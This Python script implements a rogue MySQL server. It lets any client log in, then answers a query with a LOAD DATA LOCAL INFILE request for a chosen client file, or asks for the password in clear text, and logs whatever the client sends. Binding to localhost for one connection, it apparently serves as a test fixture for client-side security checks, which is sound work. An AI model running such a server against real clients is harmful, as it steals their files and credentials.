#!/usr/bin/env python3
"""A hostile MySQL server: mysql_hostile.py PORT FILE LOG

Lets everybody in and answers the first statement that begins with "select" (or, with FIRST=1 in the
environment, the very first one) with a request for the client's FILE, as for LOAD DATA LOCAL INFILE.
All bytes that the client sends afterwards are written to LOG. With CLEAR=1 it asks for the
password in clear text instead. VERSION in the environment is the version that it tells. Serves one connection, then ends.
"""
import os
import socket
import sys

CAPABILITIES = 0x000FA68D | 0x80  # protocol 4.1, plugin auth, and LOCAL FILES
OK = b"\x00\x00\x00\x02\x00\x00\x00"


def packet(sequence, payload):
    return len(payload).to_bytes(3, "little") + bytes([sequence]) + payload


def read_packet(client):
    header = b""
    while len(header) < 4:
        more = client.recv(4 - len(header))
        if not more:
            return None
        header += more
    length, payload = int.from_bytes(header[:3], "little"), b""
    while len(payload) < length:
        more = client.recv(length - len(payload))
        if not more:
            return None
        payload += more
    return payload


def greeting():
    return (
        b"\x0a" + os.environ.get("VERSION", "8.0.99").encode() + b"\x00" + (7).to_bytes(4, "little") + b"saltsalt\x00"
        + (CAPABILITIES & 0xFFFF).to_bytes(2, "little") + b"\x2d\x02\x00"
        + (CAPABILITIES >> 16).to_bytes(2, "little") + b"\x15" + b"\x00" * 10
        + b"saltsaltsalt\x00" + b"mysql_native_password\x00"
    )


def listen(client, login, log):
    with open(log, "wb") as out:
        out.write(b"flags %08x\n" % int.from_bytes(login[:4], "little"))
        out.flush()
        try:
            while data := client.recv(65536):
                out.write(data)
                out.flush()
        except OSError:
            pass


def main():
    port, wanted, log = int(sys.argv[1]), sys.argv[2].encode(), sys.argv[3]
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", port))
    listener.listen(1)
    print("ready", flush=True)
    client, _ = listener.accept()
    client.settimeout(1)
    client.sendall(packet(0, greeting()))
    login = read_packet(client)
    if os.environ.get("CLEAR"):
        client.sendall(packet(2, b"\xfemysql_clear_password\x00"))
        listen(client, login, log)
        return
    client.sendall(packet(2, OK))
    while True:
        statement = read_packet(client)
        if statement is None:
            return
        if os.environ.get("FIRST") or statement[1:].lower().startswith(b"select"):
            break
        client.sendall(packet(1, OK))
    client.sendall(packet(1, b"\xfb" + wanted))
    listen(client, login, log)


main()
